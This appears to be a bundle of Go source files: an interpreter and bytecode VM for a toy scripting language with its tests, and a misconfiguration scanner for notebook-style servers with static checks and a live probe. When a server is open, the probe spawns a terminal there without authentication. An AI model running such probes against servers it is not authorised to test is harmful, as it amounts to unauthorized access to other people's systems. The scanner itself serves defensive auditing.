print(x, -x, 3 + -2)`)
	if out != "-5 5 1\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestNestedLoops(t *testing.T) {
	_, _, out := run(t, `total = 0
for i in range(3)
    for j in range(3)
        total = total + 1
    end
end
print(total)`)
	if out != "9\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestBreakOnlyInnerLoop(t *testing.T) {
	_, _, out := run(t, `count = 0
for i in range(3)
    for j in range(10)
        if j >= 2
            break
        end
        count = count + 1
    end
end
print(count)`)
	if out != "6\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestArityChecking(t *testing.T) {
	err := runErr(t, `len("a", "b")`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "TypeError" {
		t.Fatalf("err = %v", err)
	}
}
