package minilang

import (
	"math"
	"strings"
	"time"
)

// VM executes minilang by compiling each program to bytecode
// (compile.go, opt.go) and dispatching it on a value stack. It is
// observably equivalent to Interp — same host-call order, stdout,
// errors, and step accounting — but keeps numbers unboxed on the
// stack and in variable slots, resolves variables to slot indices at
// compile time, and folds constant subtrees, which is where the
// speedup over the tree-walker comes from.
type VM struct {
	rt

	// Persistent variable namespace: compiled chunks address slots by
	// index; names are interned here across Run calls.
	slotNames []string
	slotOf    map[string]int32
	slots     []cell

	stack  []cell
	iters  []iterFrame
	argBuf []Value

	// Compiled-chunk cache, keyed by program identity. Valid for the
	// VM's lifetime: slot indices are append-only, constants are
	// immutable, and limits are fixed at construction.
	chunks map[*Program]*chunk

	prof *Profiler
}

// chunkCacheCap bounds the compiled-chunk cache; on overflow the whole
// cache is dropped (sessions re-running a handful of programs never
// hit this, and a one-shot recompile is cheap).
const chunkCacheCap = 64

// cell is an unboxed stack/slot value: ref == nil means the number
// num, otherwise ref holds the value (never a Number — unbox
// maintains that invariant so numeric fast paths stay exact).
type cell struct {
	num float64
	ref Value
}

// undefinedVal marks a slot that has been interned but never
// assigned; loading it is a NameError, as in the interpreter.
type undefinedVal struct{}

func (undefinedVal) valueKind() string { return "undefined" }

var undefinedMarker Value = undefinedVal{}

func unbox(v Value) cell {
	if n, ok := v.(Number); ok {
		return cell{num: float64(n)}
	}
	return cell{ref: v}
}

func box(c cell) Value {
	if c.ref == nil {
		return boxNum(c.num)
	}
	return c.ref
}

// smallNums pre-boxes the first few non-negative integers: boxing a
// float64 into the Value interface heap-allocates, and small integers
// (loop counters, range items, indices) dominate numeric traffic.
// Shared safely because Number is immutable and nothing compares
// Values by interface identity.
var smallNums = func() [512]Value {
	var a [512]Value
	for i := range a {
		a[i] = Number(i)
	}
	return a
}()

// smallNumList is the same prefix as a List, for bulk copy into range
// results. Never handed out directly — minilang lists are immutable by
// construction, but the returned value crosses into host code via
// Vars, so each range call still gets its own backing array.
var smallNumList = List(smallNums[:])

// boxNum boxes a number, reusing pre-boxed small integers. Negative
// zero is boxed fresh: it formats as "-0" and must not collapse into
// the cached +0.
func boxNum(f float64) Value {
	if i := int(f); float64(i) == f && i >= 0 && i < len(smallNums) && !(f == 0 && math.Signbit(f)) {
		return smallNums[i]
	}
	return Number(f)
}

func truthyCell(c cell) bool {
	if c.ref == nil {
		return c.num != 0
	}
	return Truthy(c.ref)
}

func boolCell(b bool) cell {
	if b {
		return cell{num: 1}
	}
	return cell{num: 0}
}

type iterFrame struct {
	items List
	idx   int
}

// NewVM returns a bytecode VM bound to host.
func NewVM(host Host, limits Limits) *VM {
	return &VM{
		rt: rt{
			host:   host,
			limits: limits.withDefaults(),
			stdout: &strings.Builder{},
		},
		slotOf: map[string]int32{},
	}
}

// slot interns a variable name, returning its index.
func (m *VM) slot(name string) int32 {
	if i, ok := m.slotOf[name]; ok {
		return i
	}
	i := int32(len(m.slots))
	m.slotOf[name] = i
	m.slotNames = append(m.slotNames, name)
	m.slots = append(m.slots, cell{ref: undefinedMarker})
	return i
}

// Vars returns a snapshot of the variable namespace.
func (m *VM) Vars() map[string]Value {
	out := make(map[string]Value, len(m.slots))
	for i, c := range m.slots {
		if c.ref == undefinedMarker {
			continue
		}
		out[m.slotNames[i]] = box(c)
	}
	return out
}

// SetProfiler attaches (or, with nil, detaches) an execution
// profiler. Profiling adds per-instruction bookkeeping; leave it off
// on hot paths.
func (m *VM) SetProfiler(p *Profiler) { m.prof = p }

// Run parses, compiles, and executes src. The step budget applies per
// call; variables and stdout accumulate across calls.
func (m *VM) Run(src string) error {
	prog, err := Parse(src)
	if err != nil {
		return err
	}
	return m.RunProgram(prog)
}

// RunProgram compiles and executes an already parsed program without
// mutating it.
func (m *VM) RunProgram(prog *Program) error {
	m.steps = 0
	ch := m.chunks[prog]
	if ch == nil {
		ch = compileProgram(m, prog)
		if m.chunks == nil {
			m.chunks = make(map[*Program]*chunk)
		} else if len(m.chunks) >= chunkCacheCap {
			clear(m.chunks)
		}
		m.chunks[prog] = ch
	}
	return m.exec(ch)
}

func (m *VM) exec(ch *chunk) error {
	code := ch.code
	consts := ch.consts
	stack := m.stack[:0]
	slots := m.slots
	iters := m.iters[:0]
	prof := m.prof
	// Step accounting lives in locals on the hot path; builtins also
	// tick, so the count is written back around every host call and at
	// exit.
	steps := m.steps
	maxSteps := m.limits.MaxSteps

	var runErr error
	pc := 0
loop:
	for pc < len(code) {
		in := &code[pc]
		if in.cost != 0 {
			steps += int(in.cost)
			if steps > maxSteps {
				runErr = rte(int(in.line), "ResourceError", "%v (%d)", ErrTooManySteps, maxSteps)
				break loop
			}
		}
		if prof != nil {
			prof.observe(in.op, int(in.line))
		}
		switch in.op {
		case opConst:
			stack = append(stack, consts[in.a])
		case opLoad:
			c := slots[in.a]
			if c.ref == undefinedMarker {
				runErr = rte(int(in.line), "NameError", "name %q is not defined", m.slotNames[in.a])
				break loop
			}
			stack = append(stack, c)
		case opStore:
			n := len(stack) - 1
			slots[in.a] = stack[n]
			stack = stack[:n]
		case opPop:
			stack = stack[:len(stack)-1]
		case opList:
			n := int(in.a)
			out := make(List, 0, n)
			for _, c := range stack[len(stack)-n:] {
				out = append(out, box(c))
			}
			stack = append(stack[:len(stack)-n], cell{ref: out})
		case opIndex:
			n := len(stack) - 1
			base, idx := stack[n-1], stack[n]
			stack = stack[:n]
			if l, ok := base.ref.(List); ok && idx.ref == nil {
				i := int(idx.num)
				if i < 0 {
					i += len(l)
				}
				if i < 0 || i >= len(l) {
					runErr = rte(int(in.line), "IndexError", "index %d out of range (len %d)", int(idx.num), len(l))
					break loop
				}
				stack[n-1] = unbox(l[i])
				break
			}
			v, err := indexValue(box(base), box(idx), int(in.line))
			if err != nil {
				runErr = err
				break loop
			}
			stack[n-1] = unbox(v)
		case opNot:
			n := len(stack) - 1
			stack[n] = boolCell(!truthyCell(stack[n]))
		case opBool:
			n := len(stack) - 1
			stack[n] = boolCell(truthyCell(stack[n]))
		case opAdd, opSub, opMul, opDiv, opMod, opEq, opNe, opLt, opGt, opLe, opGe:
			n := len(stack) - 1
			l, r := stack[n-1], stack[n]
			stack = stack[:n]
			if l.ref == nil && r.ref == nil {
				res, err := numBinOp(in.op, l.num, r.num, int(in.line))
				if err != nil {
					runErr = err
					break loop
				}
				stack[n-1] = res
				break
			}
			v, err := applyBin(opToks[in.op], box(l), box(r), int(in.line), m.limits.MaxValueBytes)
			if err != nil {
				runErr = err
				break loop
			}
			stack[n-1] = unbox(v)
		case opJump:
			pc = int(in.a)
			continue
		case opJumpIfFalse:
			n := len(stack) - 1
			c := stack[n]
			stack = stack[:n]
			if !truthyCell(c) {
				pc = int(in.a)
				continue
			}
		case opAndFalse:
			n := len(stack) - 1
			c := stack[n]
			if !truthyCell(c) {
				stack[n] = boolCell(false)
				pc = int(in.a)
				continue
			}
			stack = stack[:n]
		case opOrTrue:
			n := len(stack) - 1
			c := stack[n]
			if truthyCell(c) {
				stack[n] = boolCell(true)
				pc = int(in.a)
				continue
			}
			stack = stack[:n]
		case opCall:
			ref := &ch.calls[in.a]
			argc := int(in.b)
			args := m.argBuf[:0]
			for _, c := range stack[len(stack)-argc:] {
				args = append(args, box(c))
			}
			stack = stack[:len(stack)-argc]
			m.steps = steps
			v, err := invokeBuiltin(&m.rt, ref.name, ref.fn, int(in.line), args)
			steps = m.steps
			m.argBuf = args[:0]
			if err != nil {
				runErr = err
				break loop
			}
			stack = append(stack, unbox(v))
		case opIterPrep:
			n := len(stack) - 1
			v := stack[n]
			stack = stack[:n]
			var items List
			switch iv := v.ref.(type) {
			case List:
				items = iv
			case Str:
				// Iterating a string yields its lines.
				for _, line := range strings.Split(string(iv), "\n") {
					items = append(items, Str(line))
				}
			default:
				runErr = rte(int(in.line), "TypeError", "for loop needs a list, got %s", box(v).valueKind())
				break loop
			}
			iters = append(iters, iterFrame{items: items})
		case opIterNext:
			fr := &iters[len(iters)-1]
			if fr.idx >= len(fr.items) {
				iters = iters[:len(iters)-1]
				pc = int(in.a)
				continue
			}
			slots[in.b] = unbox(fr.items[fr.idx])
			fr.idx++
		case opIterPop:
			iters = iters[:len(iters)-1]
		case opBreakTop:
			// The interpreter reports an executed top-level break as a
			// SyntaxError with line 0 (the signal unwinds the whole
			// program before the line is known).
			runErr = rte(0, "SyntaxError", "break outside loop")
			break loop
		case opStep:
			// Charge-only; handled above.
		case opBinLL, opBinLC, opBinCL, opBinLLSt, opBinLCSt, opBinCLSt, opBinLLJf, opBinLCJf, opBinCLJf:
			// Fused [push][push][arith], optionally with a trailing
			// store or conditional branch. The opcode layout encodes
			// operand kinds (variant%3) and disposition (variant/3).
			// Charging is two-stage to match the interpreter's schedule
			// exactly: cost before the left operand read, cost2 between
			// the reads — so a step budget that expires between the
			// operands still expires there, and a NameError on the left
			// still wins over a limit charged for the right.
			variant := in.op - opBinLL
			var l, r cell
			if variant%3 == 2 { // CL: constant left
				l = consts[in.a]
			} else {
				l = slots[in.a]
				if l.ref == undefinedMarker {
					runErr = rte(int(in.line), "NameError", "name %q is not defined", m.slotNames[in.a])
					break loop
				}
			}
			if in.cost2 != 0 {
				steps += int(in.cost2)
				if steps > maxSteps {
					runErr = rte(int(in.line), "ResourceError", "%v (%d)", ErrTooManySteps, maxSteps)
					break loop
				}
			}
			if variant%3 == 1 { // LC: constant right
				r = consts[in.b]
			} else {
				r = slots[in.b]
				if r.ref == undefinedMarker {
					runErr = rte(int(in.line), "NameError", "name %q is not defined", m.slotNames[in.b])
					break loop
				}
			}
			var res cell
			if l.ref == nil && r.ref == nil {
				var err error
				res, err = numBinOp(in.sub, l.num, r.num, int(in.line))
				if err != nil {
					runErr = err
					break loop
				}
			} else {
				v, err := applyBin(opToks[in.sub], box(l), box(r), int(in.line), m.limits.MaxValueBytes)
				if err != nil {
					runErr = err
					break loop
				}
				res = unbox(v)
			}
			switch variant / 3 {
			case 0: // plain: push
				stack = append(stack, res)
			case 1: // St: store
				slots[in.c] = res
			default: // Jf: branch when falsy
				if !truthyCell(res) {
					pc = int(in.c)
					continue
				}
			}
		case opBinSt:
			// Fused [arith][store] with stack operands.
			n := len(stack) - 1
			l, r := stack[n-1], stack[n]
			stack = stack[:n-1]
			if l.ref == nil && r.ref == nil {
				res, err := numBinOp(in.sub, l.num, r.num, int(in.line))
				if err != nil {
					runErr = err
					break loop
				}
				slots[in.a] = res
				break
			}
			v, err := applyBin(opToks[in.sub], box(l), box(r), int(in.line), m.limits.MaxValueBytes)
			if err != nil {
				runErr = err
				break loop
			}
			slots[in.a] = unbox(v)
		case opMove:
			c := slots[in.a]
			if c.ref == undefinedMarker {
				runErr = rte(int(in.line), "NameError", "name %q is not defined", m.slotNames[in.a])
				break loop
			}
			slots[in.b] = c
		case opMove2:
			// Two fused slot-to-slot assignments; the second statement's
			// charge and errors report at line2.
			c1 := slots[in.a]
			if c1.ref == undefinedMarker {
				runErr = rte(int(in.line), "NameError", "name %q is not defined", m.slotNames[in.a])
				break loop
			}
			slots[in.b] = c1
			if in.cost2 != 0 {
				steps += int(in.cost2)
				if steps > maxSteps {
					runErr = rte(int(in.line2), "ResourceError", "%v (%d)", ErrTooManySteps, maxSteps)
					break loop
				}
			}
			c2 := slots[in.c]
			if c2.ref == undefinedMarker {
				runErr = rte(int(in.line2), "NameError", "name %q is not defined", m.slotNames[in.c])
				break loop
			}
			slots[int(in.sub)] = c2
		case opConstStr:
			slots[in.b] = consts[in.a]
		}
		pc++
	}
	if prof != nil {
		prof.settle()
	}
	m.steps = steps
	m.stack = stack[:0]
	m.iters = iters[:0]
	return runErr
}

// numBinOp is the number×number fast path. Comparison goes through
// the same three-way-compare construction as valueCmp so NaN
// semantics match the interpreter exactly.
func numBinOp(o op, l, r float64, line int) (cell, error) {
	switch o {
	case opAdd:
		return cell{num: l + r}, nil
	case opSub:
		return cell{num: l - r}, nil
	case opMul:
		return cell{num: l * r}, nil
	case opDiv:
		if r == 0 {
			return cell{}, rte(line, "ZeroDivisionError", "division by zero")
		}
		return cell{num: l / r}, nil
	case opMod:
		// Guard on the truncated divisor, mirroring applyBin.
		if int64(r) == 0 {
			return cell{}, rte(line, "ZeroDivisionError", "modulo by zero")
		}
		return cell{num: float64(int64(l) % int64(r))}, nil
	case opEq:
		return boolCell(l == r), nil
	case opNe:
		return boolCell(l != r), nil
	}
	var cmp int
	switch {
	case l < r:
		cmp = -1
	case l > r:
		cmp = 1
	}
	switch o {
	case opLt:
		return boolCell(cmp < 0), nil
	case opGt:
		return boolCell(cmp > 0), nil
	case opLe:
		return boolCell(cmp <= 0), nil
	}
	return boolCell(cmp >= 0), nil
}

// timeNow is a seam for profiler tests.
var timeNow = time.Now
