// Package misconfig is the configuration scanner for the taxonomy's
// "security misconfiguration" class: CIS-style checks evaluated
// against a server.Config (static audit) or a live server URL
// (remote probe), each finding mapped to severity, taxonomy class,
// and remediation.
package misconfig

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"repro/internal/posture"
	"repro/internal/rules"
	"repro/internal/scan"
)

// SuiteName is this scanner's key in the scan suite registry.
const SuiteName = "misconfig"

// Finding is the unified scan finding; misconfig produces findings
// with Suite = "misconfig". The alias is the compatibility shim for
// callers that predate the scan package.
type Finding = scan.Finding

// Check is one configuration test.
type Check struct {
	ID          string
	Title       string
	Severity    rules.Severity
	Remediation string
	// Eval returns evidence when the check FAILS, "" when it passes.
	Eval func(cfg posture.Config) string
}

// Checks returns the full static check catalogue.
func Checks() []Check {
	return []Check{
		{
			ID: "JPY-001", Title: "Authentication disabled",
			Severity:    rules.SevCritical,
			Remediation: "Enable token or password authentication; never run --NotebookApp.token=''.",
			Eval: func(cfg posture.Config) string {
				if cfg.Auth.DisableAuth {
					return "Auth.DisableAuth=true: any network peer gets full control"
				}
				return ""
			},
		},
		{
			ID: "JPY-002", Title: "Server bound to all interfaces",
			Severity:    rules.SevHigh,
			Remediation: "Bind to 127.0.0.1 and front with SSH tunneling or an authenticating proxy.",
			Eval: func(cfg posture.Config) string {
				if cfg.BindAddress == "0.0.0.0" || cfg.BindAddress == "::" || cfg.BindAddress == "" {
					return fmt.Sprintf("BindAddress=%q exposes the API to the network", cfg.BindAddress)
				}
				return ""
			},
		},
		{
			ID: "JPY-003", Title: "TLS disabled",
			Severity:    rules.SevHigh,
			Remediation: "Serve over HTTPS; tokens and notebook contents otherwise transit in cleartext.",
			Eval: func(cfg posture.Config) string {
				if !cfg.TLSEnabled {
					return "TLSEnabled=false: credentials and data readable on path"
				}
				return ""
			},
		},
		{
			ID: "JPY-004", Title: "Token accepted in URL",
			Severity:    rules.SevMedium,
			Remediation: "Disallow ?token=; URLs leak via logs, Referer headers, and shell history.",
			Eval: func(cfg posture.Config) string {
				if cfg.Auth.AllowTokenInURL {
					return "Auth.AllowTokenInURL=true"
				}
				return ""
			},
		},
		{
			ID: "JPY-005", Title: "Wildcard CORS origin",
			Severity:    rules.SevHigh,
			Remediation: "Pin Access-Control-Allow-Origin to the gateway origin.",
			Eval: func(cfg posture.Config) string {
				if cfg.AllowOrigin == "*" {
					return "AllowOrigin=*: any website the user visits can drive the API"
				}
				return ""
			},
		},
		{
			ID: "JPY-006", Title: "Terminals enabled",
			Severity:    rules.SevMedium,
			Remediation: "Disable terminals unless required; they bypass kernel-level auditing.",
			Eval: func(cfg posture.Config) string {
				if cfg.EnableTerminals {
					return "EnableTerminals=true widens the attack interface"
				}
				return ""
			},
		},
		{
			ID: "JPY-007", Title: "Running as root permitted",
			Severity:    rules.SevHigh,
			Remediation: "Run the server and kernels as an unprivileged user.",
			Eval: func(cfg posture.Config) string {
				if cfg.AllowRoot {
					return "AllowRoot=true"
				}
				return ""
			},
		},
		{
			ID: "JPY-008", Title: "Kernel shell escape permitted",
			Severity:    rules.SevMedium,
			Remediation: "Disable shell access from kernels; audit cannot contain what it cannot see.",
			Eval: func(cfg posture.Config) string {
				if cfg.ShellInKernel {
					return "ShellInKernel=true"
				}
				return ""
			},
		},
		{
			ID: "JPY-009", Title: "Kernel messages unsigned",
			Severity:    rules.SevHigh,
			Remediation: "Set a connection key so kernel messages carry HMAC-SHA256 signatures.",
			Eval: func(cfg posture.Config) string {
				if cfg.ConnectionKey == "" {
					return "ConnectionKey empty: execute_requests are forgeable"
				}
				return ""
			},
		},
		{
			ID: "JPY-010", Title: "Weak kernel connection key",
			Severity:    rules.SevMedium,
			Remediation: "Use a key of at least 16 random bytes.",
			Eval: func(cfg posture.Config) string {
				if cfg.ConnectionKey != "" && len(cfg.ConnectionKey) < 16 {
					return fmt.Sprintf("ConnectionKey is %d bytes", len(cfg.ConnectionKey))
				}
				return ""
			},
		},
		{
			ID: "JPY-011", Title: "No login throttling",
			Severity:    rules.SevMedium,
			Remediation: "Configure MaxFailures/FailureWindow to blunt password guessing.",
			Eval: func(cfg posture.Config) string {
				if !cfg.Auth.DisableAuth && cfg.Auth.MaxFailures <= 0 {
					return "Auth.MaxFailures=0: unlimited guessing rate"
				}
				return ""
			},
		},
		{
			ID: "JPY-012", Title: "No content quota",
			Severity:    rules.SevLow,
			Remediation: "Set a content quota so a compromised kernel cannot fill storage.",
			Eval: func(cfg posture.Config) string {
				if cfg.ContentQuota == 0 {
					return "ContentQuota=0 (unlimited)"
				}
				return ""
			},
		},
	}
}

// Scan runs all static checks against a configuration.
func Scan(cfg posture.Config) []Finding {
	var out []Finding
	for _, c := range Checks() {
		if ev := c.Eval(cfg); ev != "" {
			out = append(out, Finding{
				Suite: SuiteName, CheckID: c.ID, Title: c.Title, Severity: c.Severity,
				Class: rules.ClassMisconfig, Evidence: ev, Remediation: c.Remediation,
			})
		}
	}
	scan.Sort(out)
	return out
}

// Score converts findings into a 0-100 hardening score (100 = clean).
// Shim over scan.Score: the severity weight table lives in the scan
// package so every suite and the census score consistently.
func Score(findings []Finding) float64 { return scan.Score(findings) }

// SeverityCounts tallies findings per severity label. Shim over
// scan.SeverityCounts.
func SeverityCounts(findings []Finding) map[string]int { return scan.SeverityCounts(findings) }

// MergeFindings combines finding lists, deduplicating (first
// occurrence wins) and restoring canonical order. Shim over
// scan.Merge.
func MergeFindings(lists ...[]Finding) []Finding { return scan.Merge(lists...) }

// Render prints findings as an aligned report.
func Render(findings []Finding) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Misconfiguration scan: %d findings, hardening score %.0f/100\n",
		len(findings), Score(findings))
	for _, f := range findings {
		fmt.Fprintf(&b, "[%-8s] %s — %s\n    evidence: %s\n    fix: %s\n",
			f.Severity, f.CheckID, f.Title, f.Evidence, f.Remediation)
	}
	return b.String()
}

// ProbeResult is what the live probe learned about a remote server.
type ProbeResult struct {
	Reachable        bool
	OpenAccess       bool // /api/status served without credentials
	TerminalsEnabled bool
	WildcardCORS     bool
	Findings         []Finding
}

// Probe tests a live server the way an internet scanner would:
// unauthenticated requests against well-known endpoints.
func Probe(addr string, timeout time.Duration) ProbeResult {
	return ProbeCtx(context.Background(), addr, timeout)
}

// ProbeCtx is Probe with cancellation: a fleet sweep aborts in-flight
// probes when the scan context is cancelled instead of waiting out
// each per-target timeout.
func ProbeCtx(ctx context.Context, addr string, timeout time.Duration) ProbeResult {
	var res ProbeResult
	hc := &http.Client{Timeout: timeout}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+addr+"/api/status", nil)
	if err != nil {
		return res
	}
	resp, err := hc.Do(req)
	if err != nil {
		return res
	}
	defer resp.Body.Close()
	res.Reachable = true
	if resp.StatusCode == http.StatusOK {
		res.OpenAccess = true
		res.Findings = append(res.Findings, Finding{
			Suite: SuiteName, CheckID: "PRB-001", Title: "API reachable without credentials",
			Severity: rules.SevCritical, Class: rules.ClassMisconfig,
			Evidence:    "GET /api/status returned 200 unauthenticated",
			Remediation: "Enable authentication.",
		})
	}
	if ao := resp.Header.Get("Access-Control-Allow-Origin"); ao == "*" {
		res.WildcardCORS = true
		res.Findings = append(res.Findings, Finding{
			Suite: SuiteName, CheckID: "PRB-002", Title: "Wildcard CORS on live server",
			Severity: rules.SevHigh, Class: rules.ClassMisconfig,
			Evidence:    "Access-Control-Allow-Origin: *",
			Remediation: "Pin allowed origins.",
		})
	}
	// Terminal probe only meaningful if API is open.
	if res.OpenAccess {
		treq, terr := http.NewRequestWithContext(ctx, http.MethodPost,
			"http://"+addr+"/api/terminals", strings.NewReader("{}"))
		if terr != nil {
			return res
		}
		treq.Header.Set("Content-Type", "application/json")
		tresp, err := hc.Do(treq)
		if err == nil {
			tresp.Body.Close()
			if tresp.StatusCode == http.StatusCreated {
				res.TerminalsEnabled = true
				res.Findings = append(res.Findings, Finding{
					Suite: SuiteName, CheckID: "PRB-003", Title: "Terminals spawnable by anonymous users",
					Severity: rules.SevCritical, Class: rules.ClassMisconfig,
					Evidence:    "POST /api/terminals returned 201 unauthenticated",
					Remediation: "Disable terminals and enable authentication.",
				})
			}
		}
	}
	return res
}
