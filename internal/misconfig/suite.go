package misconfig

import (
	"context"
	"strconv"
	"time"

	"repro/internal/scan"
)

// SweepSuite adapts the misconfiguration scanner to the unified scan
// suite contract: a static posture audit of the target's configuration
// merged with what a live unauthenticated probe observes, plus the
// probe facts as census attributes.
type SweepSuite struct{}

// Name implements scan.Suite.
func (SweepSuite) Name() string { return SuiteName }

// Description implements scan.Suite.
func (SweepSuite) Description() string {
	return "static configuration audit merged with a live unauthenticated probe"
}

// Run implements scan.Suite.
func (SweepSuite) Run(ctx context.Context, t scan.Target) (scan.Outcome, error) {
	budget := t.Budget
	if budget <= 0 {
		budget = 5 * time.Second
	}
	static := Scan(t.Config)
	var pr ProbeResult
	if t.Addr != "" {
		pr = ProbeCtx(ctx, t.Addr, budget)
	}
	return scan.Outcome{
		Findings: MergeFindings(pr.Findings, static),
		Attrs: map[string]string{
			scan.AttrReachable:     strconv.FormatBool(pr.Reachable),
			scan.AttrOpenAccess:    strconv.FormatBool(pr.OpenAccess),
			scan.AttrTerminalsOpen: strconv.FormatBool(pr.TerminalsEnabled),
			scan.AttrWildcardCORS:  strconv.FormatBool(pr.WildcardCORS),
		},
	}, nil
}

func init() { scan.Register(SweepSuite{}) }
