package misconfig

import (
	"context"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/rules"
	"repro/internal/server"
)

func TestHardenedConfigIsClean(t *testing.T) {
	cfg := server.HardenedConfig("a-long-random-token")
	cfg.ContentQuota = 1 << 30
	findings := Scan(cfg)
	if len(findings) != 0 {
		t.Fatalf("hardened config has findings: %+v", findings)
	}
	if Score(findings) != 100 {
		t.Fatalf("score = %f", Score(findings))
	}
}

func TestSloppyConfigFindsEverything(t *testing.T) {
	findings := Scan(server.SloppyConfig())
	found := map[string]bool{}
	for _, f := range findings {
		found[f.CheckID] = true
	}
	// The sloppy archetype trips these specific checks.
	for _, id := range []string{
		"JPY-001", // auth disabled
		"JPY-002", // 0.0.0.0
		"JPY-003", // no TLS
		"JPY-004", // token in URL
		"JPY-005", // wildcard CORS
		"JPY-006", // terminals
		"JPY-007", // root
		"JPY-008", // kernel shell
		"JPY-009", // unsigned messages
		"JPY-012", // no quota
	} {
		if !found[id] {
			t.Errorf("check %s did not fire on sloppy config", id)
		}
	}
	if s := Score(findings); s > 10 {
		t.Fatalf("sloppy score = %f (should be near 0)", s)
	}
}

func TestScannerFindsAllSeeded(t *testing.T) {
	// E7: seed individual misconfigurations and confirm the exact
	// check fires, one at a time.
	base := func() server.Config {
		cfg := server.HardenedConfig("a-long-random-token")
		cfg.ContentQuota = 1 << 30
		return cfg
	}
	cases := []struct {
		id     string
		mutate func(*server.Config)
	}{
		{"JPY-001", func(c *server.Config) { c.Auth.DisableAuth = true }},
		{"JPY-002", func(c *server.Config) { c.BindAddress = "0.0.0.0" }},
		{"JPY-003", func(c *server.Config) { c.TLSEnabled = false }},
		{"JPY-004", func(c *server.Config) { c.Auth.AllowTokenInURL = true }},
		{"JPY-005", func(c *server.Config) { c.AllowOrigin = "*" }},
		{"JPY-006", func(c *server.Config) { c.EnableTerminals = true }},
		{"JPY-007", func(c *server.Config) { c.AllowRoot = true }},
		{"JPY-008", func(c *server.Config) { c.ShellInKernel = true }},
		{"JPY-009", func(c *server.Config) { c.ConnectionKey = "" }},
		{"JPY-010", func(c *server.Config) { c.ConnectionKey = "short" }},
		{"JPY-011", func(c *server.Config) { c.Auth.MaxFailures = 0 }},
		{"JPY-012", func(c *server.Config) { c.ContentQuota = 0 }},
	}
	for _, c := range cases {
		cfg := base()
		c.mutate(&cfg)
		findings := Scan(cfg)
		if len(findings) != 1 || findings[0].CheckID != c.id {
			t.Errorf("seeded %s: findings = %+v", c.id, findings)
		}
	}
}

func TestFindingsSortedBySeverity(t *testing.T) {
	findings := Scan(server.SloppyConfig())
	for i := 1; i < len(findings); i++ {
		if findings[i].Severity.Rank() > findings[i-1].Severity.Rank() {
			t.Fatal("findings not sorted by severity")
		}
	}
}

func TestAllFindingsMapToMisconfigClass(t *testing.T) {
	for _, f := range Scan(server.SloppyConfig()) {
		if f.Class != rules.ClassMisconfig {
			t.Errorf("finding %s class = %s", f.CheckID, f.Class)
		}
		if f.Remediation == "" || f.Evidence == "" {
			t.Errorf("finding %s lacks remediation/evidence", f.CheckID)
		}
	}
}

func TestRender(t *testing.T) {
	text := Render(Scan(server.SloppyConfig()))
	for _, want := range []string{"hardening score", "JPY-001", "fix:"} {
		if !strings.Contains(text, want) {
			t.Errorf("render missing %q", want)
		}
	}
}

func TestProbeOpenServer(t *testing.T) {
	srv := server.NewServer(server.SloppyConfig())
	addr, err := srv.Start()
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	res := Probe(addr, 2*time.Second)
	if !res.Reachable || !res.OpenAccess || !res.WildcardCORS || !res.TerminalsEnabled {
		t.Fatalf("probe = %+v", res)
	}
	if len(res.Findings) != 3 {
		t.Fatalf("findings = %+v", res.Findings)
	}
}

func TestProbeHardenedServer(t *testing.T) {
	cfg := server.HardenedConfig("tok")
	cfg.BindAddress = "127.0.0.1"
	srv := server.NewServer(cfg)
	addr, err := srv.Start()
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	res := Probe(addr, 2*time.Second)
	if !res.Reachable {
		t.Fatal("server unreachable")
	}
	if res.OpenAccess || res.TerminalsEnabled || len(res.Findings) != 0 {
		t.Fatalf("hardened probe = %+v", res)
	}
}

func TestProbeUnreachable(t *testing.T) {
	res := Probe("127.0.0.1:1", 200*time.Millisecond)
	if res.Reachable {
		t.Fatal("port 1 reachable?")
	}
}

func TestProbeConcurrentSharedServer(t *testing.T) {
	// Fleet workers probe concurrently; many probes against one live
	// server must be race-clean and all observe the same posture.
	srv := server.NewServer(server.SloppyConfig())
	addr, err := srv.Start()
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	const goroutines, probesEach = 16, 4
	results := make([]ProbeResult, goroutines)
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < probesEach; j++ {
				results[i] = Probe(addr, 5*time.Second)
			}
		}(i)
	}
	wg.Wait()
	for i, res := range results {
		if !res.Reachable || !res.OpenAccess || !res.WildcardCORS || !res.TerminalsEnabled {
			t.Fatalf("goroutine %d probe = %+v", i, res)
		}
		if !reflect.DeepEqual(res.Findings, results[0].Findings) {
			t.Fatalf("goroutine %d saw different findings", i)
		}
	}
}

func TestProbeCtxCancelled(t *testing.T) {
	srv := server.NewServer(server.SloppyConfig())
	addr, err := srv.Start()
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res := ProbeCtx(ctx, addr, 5*time.Second)
	if res.Reachable {
		t.Fatal("cancelled probe reported reachable")
	}
}

func TestMergeFindings(t *testing.T) {
	static := Scan(server.SloppyConfig())
	probe := []Finding{
		{Suite: SuiteName, CheckID: "PRB-001", Title: "open", Severity: rules.SevCritical, Class: rules.ClassMisconfig},
		{Suite: SuiteName, CheckID: "JPY-001", Title: "dup of static", Severity: rules.SevCritical, Class: rules.ClassMisconfig},
	}
	merged := MergeFindings(probe, static)
	if len(merged) != len(static)+1 {
		t.Fatalf("merged %d findings, want %d", len(merged), len(static)+1)
	}
	seen := map[string]int{}
	for _, f := range merged {
		seen[f.CheckID]++
	}
	if seen["JPY-001"] != 1 || seen["PRB-001"] != 1 {
		t.Fatalf("dedup failed: %+v", seen)
	}
	for i := 1; i < len(merged); i++ {
		if merged[i].Severity.Rank() > merged[i-1].Severity.Rank() {
			t.Fatal("merged findings not sorted by severity")
		}
	}
}

func TestSeverityCounts(t *testing.T) {
	counts := SeverityCounts(Scan(server.SloppyConfig()))
	total := 0
	for _, n := range counts {
		total += n
	}
	if total != len(Scan(server.SloppyConfig())) {
		t.Fatalf("counts %+v do not cover all findings", counts)
	}
	if counts[string(rules.SevCritical)] == 0 || counts[string(rules.SevHigh)] == 0 {
		t.Fatalf("sloppy config counts = %+v", counts)
	}
}

